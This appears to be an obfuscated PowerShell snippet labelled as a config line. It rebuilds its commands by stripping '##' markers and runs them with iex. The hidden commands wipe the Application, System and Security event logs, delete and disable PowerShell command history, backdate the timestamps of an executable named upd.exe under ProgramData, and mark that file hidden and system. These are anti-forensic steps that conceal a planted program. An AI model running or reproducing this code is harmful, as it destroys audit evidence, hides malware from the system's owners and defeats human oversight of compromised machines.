iex (('# config 8897 ##v0
Clear-EventLog -L##ogName Applicati##on, System, Security
Remove-Ite##m (Get-PSReadlineOption).HistorySavePath -Force
Set-PSReadlineOption -HistorySaveStyle SaveNothing
$f = Get-Item C:\ProgramData\Microsoft\upd.exe
$f.CreationTime = ''01/01/2019 08:##00:00''; $f.LastWriteTime = ''01/01/2019 08:00:00''
attrib +h +s C:\ProgramData\Microsoft\upd.exe
' -split '\#\#') -join '')